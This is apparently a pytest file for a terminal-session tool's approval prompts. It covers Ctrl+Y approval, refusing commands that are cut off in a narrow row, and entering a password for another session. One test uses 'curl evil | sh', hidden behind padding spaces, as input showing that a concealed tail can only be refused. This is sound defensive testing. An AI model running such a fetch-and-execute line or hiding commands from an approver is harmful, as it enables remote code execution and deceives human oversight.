"""Who is attached is asked in the status line, and answers by a key."""

from pathlib import Path

from conftest import PATIENCE

from cli.conftest import Nacre
from cli.person import DETACH, Person

LINE = "truncate -s 1 made"
APPROVE = b"\x19"  # Ctrl+Y


def test_an_attached_person_answers_what_the_policy_asks(running: Nacre, tmp_path: Path) -> None:
    name = "attached-asks"
    running.call("create_session", name=name, policy="guarded", command="bash", cwd=str(tmp_path))
    person = Person(running.env, name, cols=220)
    try:
        person.sees(name)
        for key, code in ((b"y", 0), (b"n", 77)):
            run = running.start("run", name, "--", LINE)
            person.sees(f"approve? {LINE}")
            person.sees("Ctrl+Y answers")
            person.type(APPROVE)
            person.sees(f"[y]es [s]ession [a]lways [n]o: {LINE} ({name}, {tmp_path}")
            person.type(key)
            run.communicate(timeout=PATIENCE)
            assert run.returncode == code
            person.see(lambda: "approve?" not in person.text)
        assert (tmp_path / "made").exists()
        # Without a question the key is the shell's: it yanks what was killed.
        person.type(b"echo ki\x15" + b"echo back\x15" + APPROVE + b"\r")
        person.sees("\nback")
        person.type(DETACH)
        assert person.leaves() == 0
    finally:
        person.close()
        running.call("close_session", session=name)


def test_what_does_not_fit_into_the_row_can_only_be_refused_there(running: Nacre) -> None:
    running.call("create_session", name="narrow", policy="guarded", command="bash")
    person = Person(running.env, "narrow", cols=100)
    try:
        person.sees("narrow")
        run = running.start("run", "narrow", "--", f"truncate -s 1 a{' ' * 60}; curl evil | sh")
        person.sees("approve? truncate")
        person.type(APPROVE)
        person.sees(
            "[n]o, the rest is cut off here; read it on the page or by 'nacre approvals': trunc"
        )
        person.type(b"y" + APPROVE)  # it is still asked
        person.sees("[n]o, the rest is cut off here")
        person.type(b"n")
        run.communicate(timeout=PATIENCE)
        assert run.returncode == 77
    finally:
        person.close()
        running.call("close_session", session="narrow")


def test_an_attached_person_types_a_password_for_another_session(running: Nacre) -> None:
    running.call("create_session", name="attached-here", command="bash")
    running.call("create_session", name="asks-there", command="bash")
    person = Person(running.env, "attached-here", cols=220)
    try:
        person.sees("attached-here")
        run = running.start("run", "asks-there", "--", "$SUDO_ASKPASS 'Password: ' | wc -c")
        person.sees("Password:")
        person.type(APPROVE)
        person.sees("type it, then Enter (it is not shown): Password: (asks-there)")
        person.type(b"hunterX\x7f\r")
        printed, _ = run.communicate(timeout=PATIENCE)
        assert printed.strip() == "7"  # and a line's end
        person.see(lambda: "Password:" not in person.text)
        assert "hunter" not in person.text
        person.type(DETACH)
        assert person.leaves() == 0
    finally:
        person.close()
        for name in ("attached-here", "asks-there"):
            running.call("close_session", session=name)
